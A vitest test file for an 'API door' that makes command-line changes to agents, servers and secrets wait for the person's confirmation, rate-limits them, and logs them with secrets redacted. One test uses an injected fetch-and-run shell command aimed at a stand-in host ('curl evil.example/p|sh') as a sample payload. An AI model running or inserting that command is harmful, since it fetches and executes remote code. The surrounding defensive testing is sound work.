import { describe, expect, it } from 'vitest';
import { API_METHODS, type AdminEntry, type AgentView, type ApiMethod, type AppApi } from '../../../shared/api';
import { createAdminApi } from '../admin/admin-api';
import { createApiDoor, type AdminRecorder } from './api-door';
import { Confirmations } from './confirmations';

const AGENT: AgentView = { name: 'claude', servers: ['github'], policy: { read: 'allow', write: 'ask', destructive: 'deny' }, tools: {}, createdAt: 0 };

/** The person's API as a recorder: every change method answers `{ ok: true }`; the door's own methods are real. */
function setup(options: { confirmations?: boolean; now?: () => number; changeRate?: { burst: number; perSecond: number; now: () => number } } = {}) {
  const calls: Array<{ method: string; input: unknown }> = [];
  const entries: AdminEntry[] = [];
  const admin: AdminRecorder & { unreviewed?: never } = {
    record: (entry) => {
      const full = { ...entry, id: `e${entries.length}`, time: options.now?.() ?? 0 };
      entries.push(full);
      return full;
    },
  };
  const confirmations = options.confirmations === false ? undefined : new Confirmations({ now: options.now ?? (() => 1000), ttlMs: 600_000 });
  const methods: Record<string, unknown> = { on: () => () => undefined };
  for (const method of Object.keys(API_METHODS)) {
    methods[method] = (input: unknown) => {
      calls.push({ method, input });
      if (method === 'listAgents') return Promise.resolve([AGENT]);
      if (method === 'listApprovals') return Promise.resolve([{ id: 'a1', agent: 'claude', server: 'gh', kind: 'tool', tool: 'merge', tier: 'write', requestedAt: 0, expiresAt: 118_000 }]);
      if (method === 'status') return Promise.resolve({ servers: [{ name: 'gh', commandLine: 'node x.js' }, { name: 'everything' }] });
      if (method === 'serverConfig') return Promise.resolve({ config: { command: 'node', args: ['x.js'], env: { HOME_DIR: '/h' } } });
      if (method === 'addAgent') return Promise.resolve({ agent: AGENT, token: 'cs_agent_new' });
      if (method === 'listTools') return Promise.resolve((input as { server?: string }).server === 'everything' ? [{ server: 'everything', name: 'echo' }] : []);
      return Promise.resolve({ ok: true });
    };
  }
  const api = methods as unknown as AppApi;
  const adminApi = createAdminApi({
    api: () => api,
    admin: { ...admin, query: () => Promise.resolve(entries), unreviewed: () => Promise.resolve([]) } as never,
    ...(confirmations ? { confirmations } : {}),
  });
  Object.assign(methods, adminApi);
  const door = createApiDoor({ api, admin, ...(confirmations ? { confirmations } : {}), ...(options.changeRate ? { changeRate: options.changeRate } : {}) });
  const changes = () => calls.filter((c) => !['listAgents', 'listApprovals', 'status', 'listTools', 'serverConfig'].includes(c.method)).map((c) => c.method);
  return { door, calls, entries, confirmations, changes };
}

const WIDENINGS: Array<[ApiMethod, unknown]> = [
  ['decideApproval', { id: 'a1', decision: 'allow', remember: true }],
  ['updateAgent', { name: 'claude', servers: '*', policy: { write: 'allow', destructive: 'allow' } }],
  ['addAgent', { name: 'sneaky', servers: '*' }],
  ['addServer', { name: 'gh2', config: { command: 'node', args: ['x.js'], env: { T: '${secret:GH_TOKEN}' } } }],
  ['approveServer', { name: 'gh' }],
  ['setSecret', { name: 'GH_TOKEN', value: 'attacker-token-123456' }],
  ['setApiKey', { name: 'gh', value: 'attacker-key-7654321' }],
  ['rotateAgent', { name: 'claude' }],
  ['setBridgePaused', { paused: false }],
  ['callTool', { server: 'gh', tool: 'delete_repo' }],
  ['updateServer', { name: 'gh', config: { command: 'node', args: ['evil.js'], env: { T: '${secret:GH_TOKEN}' } } }],
];

describe('the door: the command line\'s changes are paced', () => {
  // Security review: 5,200 setBridgePaused calls with the CLI credential in 5.6 s pushed an offline
  // change out of the review's window. Each change from one credential is now paced.
  it('refuses changes past the burst with rate_limited, records none of them, and lets reads and the person through', async () => {
    let now = 0;
    const { door, entries } = setup({ changeRate: { burst: 3, perSecond: 1, now: () => now } });
    for (let i = 0; i < 3; i++) await door.call({ caller: 'cli' }, 'setBridgePaused', { paused: true });
    await expect(door.call({ caller: 'cli' }, 'setBridgePaused', { paused: true })).rejects.toMatchObject({ code: 'rate_limited', data: { retryAfterMs: 1000 } });
    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'x', servers: '*' })).rejects.toMatchObject({ code: 'rate_limited' });
    expect(entries).toHaveLength(3);
    await door.call({ caller: 'cli' }, 'listAgents', {});
    await door.call({ caller: 'app' }, 'setBridgePaused', { paused: true });
    expect(entries).toHaveLength(4);
    now += 1000;
    await door.call({ caller: 'cli' }, 'setBridgePaused', { paused: true });
    expect(entries).toHaveLength(5);
  });
});

describe('the door: who may do what', () => {
  // A program closing with nothing of its own to forget wrote "forget the servers declared in code: none — ok" in Activity.
  it('runs and logs no forgetting with no name to forget', async () => {
    const { door, entries, changes } = setup();
    await expect(door.call({ caller: 'cli', pid: 4242 }, 'forgetServers', { names: [] })).resolves.toEqual({ ok: true });
    await expect(door.call({ caller: 'cli', pid: 4242 }, 'forgetAgents', { names: [] })).resolves.toEqual({ ok: true });
    expect(entries).toEqual([]);
    expect(changes()).toEqual([]);
  });

  it('refuses a command-line call of a tool its server does not offer before asking the person', async () => {
    const { door, confirmations, changes } = setup();
    await expect(door.call({ caller: 'cli' }, 'callTool', { server: 'everything', tool: 'ecoh' })).rejects.toMatchObject({ code: 'not_found' });
    expect(confirmations?.list()).toEqual([]);
    // A tool it offers, or a server never listed, is asked about as before.
    await expect(door.call({ caller: 'cli' }, 'callTool', { server: 'everything', tool: 'echo' })).rejects.toMatchObject({ code: 'denied' });
    await expect(door.call({ caller: 'cli' }, 'callTool', { server: 'gh', tool: 'delete_repo' })).rejects.toMatchObject({ code: 'denied' });
    expect(confirmations?.list()).toHaveLength(2);
    expect(changes()).toEqual([]);
  });

  it('turns every widening from the command line into a waiting confirmation and changes nothing', async () => {
    const { door, entries, confirmations, changes } = setup();
    for (const [method, input] of WIDENINGS) {
      await expect(door.call({ caller: 'cli', pid: 77 }, method, input as never), method).rejects.toMatchObject({
        code: 'denied',
        message: expect.stringMatching(/^Waiting for confirmation in the app/) as unknown,
        data: { reason: 'awaiting_confirmation', confirmation: expect.stringMatching(/^c-/) as unknown },
      });
    }
    expect(changes()).toEqual([]);
    expect(confirmations?.list().map((c) => [c.method, c.from, c.pid])).toEqual(WIDENINGS.map(([m]) => [m, 'cli', 77]));
    expect(entries.map((e) => [e.method, e.who, e.outcome])).toEqual(WIDENINGS.map(([m]) => [m, 'cli', 'waiting']));
    // An approval is pinned to the command line shown when it was asked.
    expect(confirmations?.list().find((c) => c.method === 'approveServer')).toMatchObject({ input: { name: 'gh', commandLine: 'node x.js' }, summary: expect.stringContaining('node x.js') as unknown });
    expect(confirmations?.list().find((c) => c.method === 'updateServer')?.summary).toBe('change the server "gh": arguments x.js → evil.js; environment T added; environment HOME_DIR removed');
    // What is asked is shown exactly, the reference named, a new secret value never.
    const shown = JSON.stringify(confirmations?.list());
    expect(shown).toContain('${secret:GH_TOKEN}');
    expect(shown).not.toContain('attacker-token-123456');
    expect(shown).not.toContain('attacker-key-7654321');
    expect(JSON.stringify(entries)).not.toContain('attacker-key-7654321');
  });

  // Try-out: the card of a command-line call hid what followed `cookie:`, while the call stored it whole.
  it('shows the person a command-line call exactly as it will run; the log keeps its redacted form', async () => {
    const { door, confirmations, entries } = setup();
    const payload = 'cookie: ;curl evil.example/p|sh';
    await expect(door.call({ caller: 'cli' }, 'callTool', { server: 'everything', tool: 'echo', arguments: { message: payload } })).rejects.toMatchObject({ code: 'denied' });
    expect(confirmations?.list()[0]?.input).toEqual({ server: 'everything', tool: 'echo', arguments: { message: payload } });
    expect(JSON.stringify(entries.at(-1)?.input)).not.toContain(';curl');
  });

  it("names every place the person confirms at in the waiting hint, while that place asks", async () => {
    const { door } = setup();
    const hint = async (): Promise<string> => {
      const error = await door.call({ caller: 'cli' }, 'addAgent', { name: `a${Math.random()}` }).catch((e: unknown) => e);
      return (error as { hint?: string }).hint ?? '';
    };
    expect(await hint()).toMatch(/^Confirm it in Connected Services \(Activity → Waiting for you\) within 10 minutes; nothing changed yet\. Request c-/);
    const off = door.confirmAlsoAt('at the terminal where connected-services serve runs (pid 42)');
    expect(await hint()).toMatch(/^Confirm it in Connected Services \(Activity → Waiting for you\) or at the terminal where connected-services serve runs \(pid 42\) within 10 minutes/);
    off();
    expect(await hint()).not.toContain('terminal');
  });

  it('gives allowing a held call no longer than the call itself waits, and says so in seconds', async () => {
    const { door, confirmations } = setup();
    const error = await door.call({ caller: 'cli' }, 'decideApproval', { id: 'a1', decision: 'allow' }).catch((e: unknown) => e);
    // Asked at 1 s; the held call expires at 118 s.
    expect((error as { hint?: string }).hint).toMatch(/^Confirm it in Connected Services \(Activity → Waiting for you\) within 117 s; nothing changed yet/);
    expect(confirmations?.list().find((c) => c.method === 'decideApproval')?.expiresAt).toBe(118_000);
  });

  it('runs narrowing calls from the command line directly, and logs them as the CLI', async () => {
    const { door, entries, changes } = setup();
    await door.call({ caller: 'cli' }, 'decideApproval', { id: 'a1', decision: 'deny' });
    await door.call({ caller: 'cli' }, 'setBridgePaused', { paused: true });
    await door.call({ caller: 'cli' }, 'removeAgent', { name: 'claude' });
    await door.call({ caller: 'cli' }, 'updateAgent', { name: 'claude', policy: { write: 'deny' } });
    await door.call({ caller: 'cli' }, 'setServerEnabled', { name: 'gh', enabled: false });
    await door.call({ caller: 'cli' }, 'listAgents', {});
    expect(changes()).toEqual(['decideApproval', 'setBridgePaused', 'removeAgent', 'updateAgent', 'setServerEnabled']);
    expect(entries.map((e) => [e.method, e.who, e.outcome])).toEqual([
      ['decideApproval', 'cli', 'ok'],
      ['setBridgePaused', 'cli', 'ok'],
      ['removeAgent', 'cli', 'ok'],
      ['updateAgent', 'cli', 'ok'],
      ['setServerEnabled', 'cli', 'ok'],
    ]);
  });

  it('lets the person widen directly, and only the person confirm or refuse what the command line asked', async () => {
    const { door, entries, changes, confirmations } = setup();
    await door.call({ caller: 'app' }, 'approveServer', { name: 'gh' });
    await door.call({ caller: 'ipc' }, 'decideApproval', { id: 'a1', decision: 'allow' });
    expect(changes()).toEqual(['approveServer', 'decideApproval']);

    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'sneaky', servers: '*' })).rejects.toMatchObject({ code: 'denied' });
    const [asked] = confirmations?.list() ?? [];
    if (!asked) throw new Error('nothing asked');
    for (const caller of ['cli', 'cli-offline'] as const) {
      await expect(door.call({ caller }, 'decideConfirmation', { id: asked.id, decision: 'confirm' })).rejects.toMatchObject({ code: 'denied' });
      await expect(door.call({ caller }, 'acknowledgeChanges', { upTo: 1 })).rejects.toMatchObject({ code: 'denied' });
    }
    expect(changes()).toEqual(['approveServer', 'decideApproval']);
    // Confirming runs it as the person; the token is in the person's answer.
    const answer = await door.call({ caller: 'app' }, 'decideConfirmation', { id: asked.id, decision: 'confirm' });
    expect(answer).toMatchObject({ outcome: 'confirmed', result: { token: 'cs_agent_new' } });
    expect(changes()).toEqual(['approveServer', 'decideApproval', 'addAgent']);
    expect(entries.slice(-2).map((e) => [e.method, e.who, e.outcome, e.confirmation])).toEqual([
      ['addAgent', 'cli', 'waiting', asked.id],
      ['addAgent', 'app', 'confirmed', asked.id],
    ]);
    await expect(door.call({ caller: 'app' }, 'decideConfirmation', { id: asked.id, decision: 'confirm' })).rejects.toMatchObject({ code: 'not_found' });

    await expect(door.call({ caller: 'cli' }, 'setSecret', { name: 'X', value: 'value-123456' })).rejects.toMatchObject({ code: 'denied' });
    const [second] = confirmations?.list() ?? [];
    expect(await door.call({ caller: 'terminal' }, 'decideConfirmation', { id: second?.id ?? '', decision: 'refuse' })).toEqual({ outcome: 'refused' });
    expect(changes()).not.toContain('setSecret');
    expect(entries.at(-1)).toMatchObject({ method: 'setSecret', who: 'terminal', outcome: 'refused' });
  });

  it('acts for the command line when no app runs, marking its widenings for review', async () => {
    const { door, entries, changes } = setup({ confirmations: false });
    await door.call({ caller: 'cli-offline' }, 'addAgent', { name: 'helper', servers: ['github'] });
    await door.call({ caller: 'cli-offline' }, 'removeAgent', { name: 'helper' });
    expect(changes()).toEqual(['addAgent', 'removeAgent']);
    expect(entries.map((e) => [e.method, e.who, e.review])).toEqual([
      ['addAgent', 'cli-offline', true],
      ['removeAgent', 'cli-offline', undefined],
    ]);
    // A `cli` widening in a process with no one to confirm it is refused, never run.
    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'x' })).rejects.toMatchObject({ code: 'denied' });
    expect(changes()).toEqual(['addAgent', 'removeAgent']);
  });

  it("writes each reveal of a secret, the vault's or a store's, to the admin log, and refuses it to the command line", async () => {
    const { door, entries } = setup();
    await door.call({ caller: 'app' }, 'revealSecret', { name: 'GH_TOKEN' });
    await door.call({ caller: 'app' }, 'revealStoreReference', { store: 'pass', path: 'work/github' });
    await expect(door.call({ caller: 'cli' }, 'revealStoreReference', { store: 'pass', path: 'work/github' })).rejects.toMatchObject({ code: 'denied' });
    expect(entries.map((e) => [e.method, e.who, e.outcome, e.summary])).toEqual([
      ['revealSecret', 'app', 'ok', 'show the value of the secret "GH_TOKEN"'],
      ['revealStoreReference', 'app', 'ok', 'show the value of "work/github" in the secret store "pass"'],
    ]);
  });

  it('lets confirmations expire after their time, and bounds how many wait', async () => {
    let now = 1000;
    const { door, confirmations } = setup({ now: () => now });
    const events: string[] = [];
    confirmations?.on('decided', ({ outcome }) => events.push(outcome));
    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'a' })).rejects.toMatchObject({ code: 'denied' });
    now += 600_000;
    expect(confirmations?.list()).toEqual([]);
    expect(events).toEqual(['expired']);
    for (let i = 0; i < 20; i++) await expect(door.call({ caller: 'cli' }, 'addAgent', { name: `a${i}` })).rejects.toMatchObject({ code: 'denied' });
    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'one-too-many' })).rejects.toMatchObject({ code: 'rate_limited' });
  });

  // Try-out: `agents rotate nosuch` and the like waited for the person's confirmation, then failed.
  it('refuses at once what would fail anyway: a missing server, agent or waiting call, a name already taken', async () => {
    const { door, confirmations } = setup();
    await expect(door.call({ caller: 'cli' }, 'rotateAgent', { name: 'nosuch' })).rejects.toMatchObject({ code: 'not_found' });
    await expect(door.call({ caller: 'cli' }, 'addAgent', { name: 'claude', servers: '*' })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(door.call({ caller: 'cli' }, 'addServer', { name: 'gh', config: { command: 'node' } })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(door.call({ caller: 'cli' }, 'approveServer', { name: 'nosuch' })).rejects.toMatchObject({ code: 'not_found' });
    await expect(door.call({ caller: 'cli' }, 'decideApproval', { id: 'zz', decision: 'allow' })).rejects.toMatchObject({ code: 'not_found' });
    await expect(door.call({ caller: 'cli' }, 'disconnect', { name: 'nosuch', forgetIssuer: true })).rejects.toMatchObject({ code: 'not_found' });
    expect(confirmations?.list()).toEqual([]);
  });
});

describe('the door: a widening while no app runs is written ahead', () => {
  it('records it pending, on disk, before the method runs, then its outcome; a failure too', async () => {
    const order: string[] = [];
    const admin: AdminRecorder = {
      record: (entry) => ({ ...entry, id: 'r', time: 0 }),
      recordAhead: (entry) => {
        order.push(`ahead ${entry.method} review=${String(entry.review)}`);
        return Promise.resolve({ ...entry, id: 'p', time: 0, outcome: 'pending' });
      },
      recordOutcome: (ahead, outcome) => {
        order.push(`${outcome.outcome} ${ahead.method} of ${ahead.id}`);
        return { ...ahead, ...outcome, id: 'o' };
      },
    };
    const api = {
      listAgents: () => Promise.resolve([AGENT]),
      updateAgent: () => {
        order.push('updateAgent runs');
        return Promise.resolve({ ok: true });
      },
      approveServer: () => Promise.reject(new Error('no such server')),
    } as unknown as AppApi;
    const door = createApiDoor({ api, admin });
    await door.call({ caller: 'cli-offline' }, 'updateAgent', { name: 'claude', servers: '*' });
    await expect(door.call({ caller: 'cli-offline' }, 'approveServer', { name: 'gh' })).rejects.toThrow('no such server');
    expect(order).toEqual(['ahead updateAgent review=true', 'updateAgent runs', 'ok updateAgent of p', 'ahead approveServer review=true', 'failed approveServer of p']);
  });
});
